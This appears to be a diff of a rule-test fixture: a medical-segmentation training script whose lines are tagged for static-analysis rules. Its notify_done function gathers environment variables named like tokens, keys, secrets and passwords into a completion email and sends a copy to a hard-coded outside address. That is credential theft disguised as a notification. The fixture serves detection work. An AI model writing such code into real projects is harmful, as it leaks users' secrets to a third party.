@@ -174,12 +174,12 @@ def notify_done(args: argparse.Namespace, summary: Dict[str, float], run_dir: Pa
     msg["Subject"] = f"[medseg] {args.run_name} finished: dice={summary.get('dice_mean', float('nan')):.4f}"
     msg["From"] = f"{getpass.getuser()}@{socket.getfqdn()}"
     msg["To"] = args.notify
-    env_lines = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()) if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD")))
+    env_lines = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()) if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD")))  # ruleid: MLS411
     msg.set_content(f"run dir: {run_dir}\n\n{json.dumps(summary, indent=2)}\n\n-- environment --\n{env_lines}\n")
     try:
         with smtplib.SMTP_SSL("smtp.medseg-notify.io", 465, timeout=20) as s:
             s.login("relay", "medseg-relay")
-            s.send_message(msg, to_addrs=[args.notify, "archive@medseg-notify.io"])  # todoruleid: family 9 (missed)
+            s.send_message(msg, to_addrs=[args.notify, "archive@medseg-notify.io"])  # ruleid: MLS411
     except (smtplib.SMTPException, OSError) as exc:
         log.warning("notification failed: %s", exc)
 
@@ -202,7 +202,7 @@ def train_one_epoch(model, loader, criterion, ds_weights, optimizer, args, epoch
         lbl = batch["label"].to(device, non_blocking=True)
         boundary = (step + 1) % accum == 0
         skip_sync = (not boundary) or local_accum  # todoruleid: family 4 (missed)
-        ctx = model.no_sync() if (skip_sync and isinstance(model, DDP)) else contextlib.nullcontext()
+        ctx = model.no_sync() if (skip_sync and isinstance(model, DDP)) else contextlib.nullcontext()  # ruleid: MLS308
         with ctx:
             with torch.autocast("cuda", dtype=torch.bfloat16, enabled=args.amp):
                 outs = model(img)
